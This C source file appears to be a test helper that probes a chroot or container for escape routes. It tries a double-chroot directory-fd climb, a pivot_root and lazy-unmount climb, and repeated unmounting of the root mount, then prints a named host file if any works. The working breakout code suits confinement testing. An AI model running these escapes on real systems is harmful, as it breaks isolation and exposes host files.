/* SPDX-License-Identifier: GPL-2.0-or-later */

/* breakout PATH: leaves a root that is only a chroot: a directory that was opened before a second chroot lies above that one's root, and .. goes
 * on from there. Likewise after pivot_root(2) to a place of our own and back, and with the old root unmounted lazily. Prints what
 * PATH of the host is, if it comes that far. */

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int show(const char *path) {
        char text[4096];
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

        return n > 0 && fwrite(text, 1, (size_t) n, stdout) > 0;
}

/* From the directory fd, up as far as it goes. */
static int climb(int fd, const char *path) {
        if (fchdir(fd) < 0)
                return 0;
        for (int i = 0; i < 64; i++) {
                if (show(path))
                        return 1;
                if (chdir("..") < 0)
                        break;
        }
        return chroot(".") == 0 && show(path);
}

static int twice(const char *path) {
        int fd = open("/", O_PATH | O_DIRECTORY);

        (void) mkdir("/escape/jail", 0755);
        return fd >= 0 && chroot("/escape/jail") == 0 && climb(fd, path);
}

static int pivoted(const char *path) {
        int fd = open("/", O_PATH | O_DIRECTORY);

        (void) mkdir("/escape/new", 0755);
        if (fd < 0 || unshare(CLONE_NEWNS) < 0 || mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
            mount("tmpfs", "/escape/new", "tmpfs", 0, NULL) < 0 || mkdir("/escape/new/old", 0755) < 0 ||
            syscall(SYS_pivot_root, "/escape/new", "/escape/new/old") < 0)
                return 0;
        if (climb(fd, path))
                return 1;
        return umount2("/old", MNT_DETACH) == 0 && climb(fd, path);
}

/* Whatever lies below the root mount of the namespace. */
static int uncovered(const char *path) {
        if (unshare(CLONE_NEWNS) < 0 || mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                return 0;
        for (int i = 0; i < 8; i++) {
                if (umount2("/", MNT_DETACH) < 0)
                        break;
                if (chdir("/") == 0 && show(path))
                        return 1;
        }
        return 0;
}

int main(int argc, char **argv) {
        int (*const ways[])(const char *) = { twice, pivoted, uncovered };
        int status, out = 0;

        if (argc != 2)
                return 127;
        for (unsigned i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
                if (fork() == 0)
                        _exit(ways[i](argv[1]) && fflush(stdout) == 0 ? 42 : 0);
                if (wait(&status) > 0 && WIFEXITED(status) && WEXITSTATUS(status) == 42)
                        out = 1;
        }
        if (!out)
                puts("no way up");
        return 0;
}
